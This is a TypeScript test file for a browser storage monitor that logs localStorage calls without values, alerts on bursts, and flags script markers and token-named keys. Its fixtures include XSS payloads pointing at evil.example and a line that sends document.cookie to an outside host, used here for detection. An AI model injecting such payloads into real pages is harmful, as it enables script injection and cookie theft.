import { afterEach, describe, expect, it } from 'vitest';
import {
  EXEMPT_KEYS,
  installStorageMonitor,
  MAX_LOG_ENTRIES,
  RATE_ALERT_PER_SECOND,
  STACK_TRACKING_KEY,
  type StorageMonitor,
} from './storage-monitor.ts';

/** A Storage-shaped class: the monitor wraps its prototype as it wraps Storage.prototype in the browser. */
class MemoryStorage {
  private data = new Map<string, string>();
  getItem(key: string): string | null {
    return this.data.get(key) ?? null;
  }
  setItem(key: string, value: string): void {
    this.data.set(key, String(value));
  }
  removeItem(key: string): void {
    this.data.delete(key);
  }
  clear(): void {
    this.data.clear();
  }
}

let monitor: StorageMonitor | undefined;
afterEach(() => monitor?.uninstall());

function setup(options: { stackTracking?: boolean; time?: { now: number } } = {}) {
  const local = new MemoryStorage();
  const session = new MemoryStorage();
  if (options.stackTracking) session.setItem(STACK_TRACKING_KEY, 'on');
  const warnings: string[] = [];
  const clock = options.time ?? { now: 1_700_000_000_000 };
  monitor = installStorageMonitor({
    prototype: MemoryStorage.prototype,
    isWatched: (storage) => storage === local,
    switchStore: session,
    now: () => clock.now,
    warn: (message) => warnings.push(message),
  });
  return { local, session, warnings, clock, monitor };
}

const entries = () => monitor!.snapshot().entries;

describe('storage monitor', () => {
  it('logs each operation with its key and time, and the storage still works', () => {
    const { local } = setup();
    local.setItem('sladd.sidebar', '{"width":400}');
    expect(local.getItem('sladd.sidebar')).toBe('{"width":400}');
    local.removeItem('sladd.sidebar');
    local.clear();
    expect(entries().map((e) => [e.operation, e.key])).toEqual([
      ['setItem', 'sladd.sidebar'],
      ['getItem', 'sladd.sidebar'],
      ['removeItem', 'sladd.sidebar'],
      ['clear', null],
    ]);
    expect(entries()[0]).toMatchObject({ timestamp: 1_700_000_000_000, suspicious: false, flags: [] });
    expect(entries()[0]!.stackTrace).toBeUndefined();
  });

  it('never keeps a value, not in the log and not in the support export', () => {
    const { local } = setup({ stackTracking: true });
    local.setItem('draft', 'Kari Nordmann 12345678901 <script>steal()</script>');
    local.getItem('draft');
    const everything = JSON.stringify(entries()) + monitor!.exportForSupport();
    expect(everything).not.toContain('Kari');
    expect(everything).not.toContain('steal');
    expect(entries()[0]!.flags).toEqual(['script-marker']);
  });

  it('keeps at most 100 entries, the newest', () => {
    const { local } = setup();
    for (let n = 1; n <= 150; n += 1) {
      local.setItem(`key-${n}`, 'x');
      local.getItem(`key-${n}`);
    }
    expect(entries()).toHaveLength(MAX_LOG_ENTRIES);
    expect(entries().at(-1)!.key).toBe('key-150');
    expect(entries()[0]!.key).toBe('key-101');
  });

  it('raises one alert above 50 calls of one operation within a second, warning without the key', () => {
    const { local, warnings, clock } = setup();
    for (let n = 0; n < RATE_ALERT_PER_SECOND; n += 1) local.setItem('burst-key', 'v');
    for (let n = 0; n < RATE_ALERT_PER_SECOND; n += 1) local.getItem('burst-key');
    expect(monitor!.snapshot().alertCount).toBe(0);
    local.setItem('burst-key', 'v'); // the 51st setItem within the second
    local.setItem('burst-key', 'v');
    expect(monitor!.snapshot().alertCount).toBe(1);
    const alerts = entries().filter((e) => e.flags.includes('rate-alert'));
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ operation: 'setItem', suspicious: true });
    expect(warnings).toEqual([
      'Sladd storage monitor: more than 50 localStorage setItem calls within one second.',
    ]);
    // A new second starts a new count.
    clock.now += 1000;
    for (let n = 0; n < RATE_ALERT_PER_SECOND; n += 1) local.setItem('burst-key', 'v');
    expect(monitor!.snapshot().alertCount).toBe(1);
  });

  it('flags script markers in keys and values', () => {
    const { local } = setup();
    const markers = [
      '<script src=//evil.example/x.js>',
      '< SCRIPT>',
      'javascript:alert(1)',
      '<img src=x onerror=alert(1)>',
      '<body onload = go()>',
      'data:text/html;base64,PHNjcmlwdD4=',
      '<iframe src=//evil.example>',
      'fetch("//x?c="+document.cookie)',
    ];
    for (const marker of markers) local.setItem('innocent', marker);
    local.setItem('<script>', 'plain');
    local.setItem('innocent', 'A normal sentence about scripts and onboarding.');
    const flagged = entries().map((e) => e.flags.includes('script-marker'));
    expect(flagged).toEqual([...markers.map(() => true), true, false]);
  });

  it('flags token-named keys only while stack tracking is on, and records the stack then', () => {
    const { local } = setup();
    for (const key of ['access_token', 'jwt', 'client_secret', 'password', 'api_key', 'apiKey'])
      local.setItem(key, 'v');
    expect(entries().some((e) => e.suspicious)).toBe(false);
    monitor!.setStackTracking(true);
    for (const key of ['access_token', 'jwt', 'client_secret', 'password', 'api_key', 'apiKey', 'sidebar'])
      local.setItem(key, 'v');
    const tracked = entries().slice(-7);
    expect(tracked.map((e) => e.flags.includes('token-key'))).toEqual([
      true,
      true,
      true,
      true,
      true,
      true,
      false,
    ]);
    expect(tracked[0]!.stackTrace).toMatch(/storage-monitor\.test\.ts/);
    expect(tracked[0]!.stackTrace).not.toMatch(/storage-monitor\.ts/);
  });

  it('keeps the stack-tracking switch in the session store, read again at start', () => {
    const { session } = setup();
    monitor!.setStackTracking(true);
    expect(session.getItem(STACK_TRACKING_KEY)).toBe('on');
    monitor!.uninstall();
    const again = installStorageMonitor({
      prototype: MemoryStorage.prototype,
      isWatched: () => true,
      switchStore: session,
    });
    expect(again.snapshot().stackTracking).toBe(true);
    again.setStackTracking(false);
    expect(session.getItem(STACK_TRACKING_KEY)).toBeNull();
    again.uninstall();
  });

  it('leaves the exempt keys and other storage objects alone', () => {
    const { local, session } = setup();
    for (const key of EXEMPT_KEYS) {
      local.setItem(key, '<script>');
      local.getItem(key);
    }
    session.setItem('sladd.other', 'x');
    expect(entries()).toHaveLength(0);
  });

  it('clears the log and the alert count, and puts the methods back on uninstall', () => {
    const { local } = setup();
    for (let n = 0; n <= RATE_ALERT_PER_SECOND; n += 1) local.getItem('k');
    expect(monitor!.snapshot().alertCount).toBe(1);
    monitor!.clear();
    expect(monitor!.snapshot()).toMatchObject({ entries: [], alertCount: 0 });
    const wrapped = MemoryStorage.prototype.getItem;
    monitor!.uninstall();
    expect(MemoryStorage.prototype.getItem).not.toBe(wrapped);
    local.getItem('k');
    expect(monitor!.snapshot().entries).toHaveLength(0);
    monitor = undefined;
  });
});
